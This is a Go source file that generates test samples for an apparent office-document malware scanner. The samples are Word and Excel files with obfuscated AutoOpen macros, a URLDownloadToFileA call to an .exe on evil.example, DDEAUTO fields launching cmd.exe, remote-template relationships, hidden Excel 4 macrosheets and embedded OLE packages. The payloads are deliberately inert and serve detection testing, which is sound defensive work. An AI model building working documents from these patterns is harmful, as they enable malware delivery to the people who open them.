package office

import (
	"archive/zip"
	"bytes"
	"strings"
)

// generated are the documents that no tool of Debian writes. Their macros do nothing that would run: names of calls only.
func generated() map[string][]byte {
	out := map[string][]byte{}
	for _, add := range []func(map[string][]byte){macroDocuments, openXMLDocuments, workbooks, otherCompounds, richTexts, notes, shortcuts, texts} {
		add(out)
	}
	return out
}

const attributes = "Attribute VB_Name = \"NAME\"\r\nAttribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\nAttribute VB_Creatable = False\r\n"

// vba is a storage with a project: modules by name and source text.
func vba(project string, modules ...[2]string) node {
	dir := cat(le16(1), le32(4), le32(1), le16(9), le32(4), le32(1), le16(2), le16(15), le32(2), le16(len(modules)))
	var in []node
	for _, m := range modules {
		pcode := []byte("\x01\x16\x03\x00compiled")
		text := strings.ReplaceAll(attributes, "NAME", m[0]) + m[1]
		dir = append(dir, cat(le16(0x19), le32(len(m[0])), m[0], le16(0x1a), le32(len(m[0])), m[0], le16(0x32), le32(2*len(m[0])), utf16le(m[0]),
			le16(0x31), le32(4), le32(len(pcode)), le16(0x21), le32(0), le16(0x2b), le32(0))...)
		in = append(in, stream(m[0], cat(pcode, compress([]byte(text)))))
	}
	dir = append(dir, cat(le16(0x10), le32(0))...)
	in = append(in, stream("dir", compress(dir)), stream("_VBA_PROJECT", cat("\xcc\x61\xff\xff\x00\x00\x00", project)))
	return storage("VBA", in...)
}

func vbaProject(modules ...[2]string) []byte {
	return writeCFB(node{in: []node{vba("", modules...), stream("PROJECT", []byte("ID=\"{0}\"\r\n"))}})
}

const autoOpen = "Sub AutoOpen()\r\n  Dim s As Object ' only a test\r\n  Set s = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\n  x = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\nEnd Sub\r\n"

func macroDocuments(out map[string][]byte) {
	word := stream("WordDocument", cat(le16(0xA5EC), make([]byte, 40)))
	macros := func(in ...node) node { return storage("Macros", in...) }
	out["10-word-autoopen.doc"] = writeCFB(node{class: "00020906-0000-0000-C000-000000000046", in: []node{word, macros(vba("", [2]string{"ThisDocument", ""}, [2]string{"Module1", autoOpen}))}})
	out["11-word-plain-macro.doc"] = writeCFB(node{in: []node{word, macros(vba("", [2]string{"Module1", "Function Twice(x)\r\n  Twice = 2 * x\r\nEnd Function\r\n"}))}})
	long := strings.Repeat("  Twice = 2 * x + 3 * y\r\n", 400)
	out["12-word-long-module.doc"] = writeCFB(node{in: []node{word, macros(vba("", [2]string{"Module1", "Function Twice(x)\r\n" + long + "  Kill \"C:\\x\"\r\nEnd Function\r\n"}))}})
	out["13-word-stomped.doc"] = writeCFB(node{in: []node{word, macros(vba("\x00Document_Open\x00Shell\x00", [2]string{"ThisDocument", "' nothing here\r\n"}))}})
	// The list of modules is gone: the source text is found all the same.
	hidden := vba("", [2]string{"Module1", autoOpen})
	for i := range hidden.in {
		if hidden.in[i].name == "dir" {
			hidden.in[i].data = []byte("gone")
		}
	}
	out["14-word-no-list.doc"] = writeCFB(node{in: []node{word, macros(hidden)}})
	declare := "Private Declare PtrSafe Function Fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\r\nSub Workbook_Open()\r\n  Fetch StrReverse(\"exe.x/elpmaxe.live//:ptth\")\r\nEnd Sub\r\n"
	out["15-excel-declare.xls"] = writeCFB(node{in: []node{stream("Workbook", biff()), storage("_VBA_PROJECT_CUR", vba("", [2]string{"ThisWorkbook", declare}))}})
	out["16-word-encrypted.doc"] = writeCFB(node{in: []node{stream("WordDocument", cat(le16(0xA5EC), make([]byte, 8), le16(0x0100), make([]byte, 40)))}})
	fields := cat(le16(0xA5EC), make([]byte, 40), "\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k nothing\" \x14x\x15 text \x13 HYPERLINK \"http://link.example/a\" \x14here\x15",
		utf16le("\x13 INCLUDEPICTURE \"http://img.example/x.png\" \\d \x14\x15"))
	out["17-word-fields.doc"] = writeCFB(node{in: []node{stream("WordDocument", fields)}})
	dropped := cat(le16(2), "notes.js\x00", "C:\\a\\notes.js\x00", le32(0x300), le32(9), "C:\\notes\x00", le32(5), "alert")
	out["18-word-package.doc"] = writeCFB(node{in: []node{word, storage("ObjectPool", storage("_1", stream("\x01Ole10Native", cat(le32(len(dropped)), dropped))),
		node{name: "_2", dir: true, class: "0002CE02-0000-0000-C000-000000000046", in: []node{stream("Equation Native", make([]byte, 30))}})}})
	out["19-word-large.doc"] = writeCFB(node{in: []node{stream("WordDocument", cat(le16(0xA5EC), make([]byte, 40), bytes.Repeat([]byte("text "), 30000), fields))}})
}

// biff is a workbook of the records given, between its BOF and EOF.
func biff(records ...[]byte) []byte {
	out := record(biffBOF, cat(le16(0x600), le16(5), make([]byte, 12)))
	for _, r := range records {
		out = append(out, r...)
	}
	return append(out, record(0x0A, nil)...)
}

func record(id int, body []byte) []byte { return cat(le16(id), le16(len(body)), body) }

// pack writes a zip of names and contents.
func pack(parts ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(parts); i += 2 {
		f, err := z.CreateHeader(&zip.FileHeader{Name: parts[i], Method: zip.Store})
		if err == nil {
			_, err = f.Write([]byte(parts[i+1]))
		}
		if err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

const (
	typesHead = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>`
	relsHead  = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	relType   = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	wordBody  = `<w:document xmlns:w="x"><w:body>`
)

func openXMLDocuments(out map[string][]byte) {
	plain := typesHead + `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	out["30-plain.docx"] = pack("[Content_Types].xml", plain, "word/document.xml", wordBody+`<w:t>hello</w:t></w:body></w:document>`, "word/media/image1.png", "PNG")
	macro := typesHead + `<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`
	out["31-macro-called.docx"] = pack("[Content_Types].xml", macro, "word/document.xml", wordBody+`</w:body></w:document>`, "word/vbaProject.bin", string(vbaProject([2]string{"ThisDocument", autoOpen})))
	rel := func(kind, target string) string {
		return `<Relationship Id="r" Type="` + relType + kind + `" Target="` + target + `" TargetMode="External"/>`
	}
	out["32-remote.docx"] = pack("[Content_Types].xml", plain, "word/_rels/settings.xml.rels", relsHead+rel("attachedTemplate", "https://evil.example/t.dotm")+`</Relationships>`,
		"word/_rels/document.xml.rels", relsHead+rel("image", "file://evil.example/share/x.png")+rel("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a")+rel("frame", "\\\\10.0.0.1\\s\\f.htm")+
			rel("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")+rel("hyperlink", "http://link.example/b")+rel("hyperlink", "#top")+`</Relationships>`)
	run := func(s string) string { return `<w:r><w:instrText>` + s + `</w:instrText></w:r>` }
	char := func(s string) string { return `<w:r><w:fldChar w:fldCharType="` + s + `"/></w:r>` }
	out["33-dde.docx"] = pack("[Content_Types].xml", plain, "word/document.xml", wordBody+char("begin")+run(" DD")+run("EAUTO ")+char("begin")+run(` QUOTE 99 109 100 46 101 120 101 `)+char("separate")+char("end")+
		run(` "/k x" `)+char("separate")+`<w:t>!</w:t>`+char("end")+`<w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example/x&quot;"/></w:body></w:document>`,
		"word/header1.xml", "\xff\xfe"+string(utf16le(`<w:hdr xmlns:w="x">`+char("begin")+run("DDE a b")+char("end")+`</w:hdr>`)))
	sheets := typesHead + `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>`
	out["34-excel4.xlsm"] = pack("[Content_Types].xml", sheets, "xl/workbook.xml", `<workbook><sheets><sheet name="Macro1" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>`,
		"xl/macrosheets/sheet1.xml", `<xm:macrosheet xmlns:xm="x"><sheetData><row><c><f>EXEC("x")</f></c></row></sheetData></xm:macrosheet>`,
		"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>`)
	out["35-embedded.docx"] = pack("[Content_Types].xml", plain, "word/embeddings/oleObject1.bin", string(macroOf("18-word-package.doc")), "word/embeddings/a.docx", string(pack("[Content_Types].xml", plain, "word/evil.js", "x")),
		"word/activeX/activeX1.xml", `<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}" xmlns:ax="x"/>`, "word/document.xml", wordBody+`<o:OLEObject Type="Embed" ProgID="Equation.3"/></w:body></w:document>`)
	out["36-twice.docx"] = pack("[Content_Types].xml", plain, "word/document.xml", "<a/>", "Word\\Document.xml", "<b/>")
}

func macroOf(name string) []byte {
	out := map[string][]byte{}
	macroDocuments(out)
	return out[name]
}
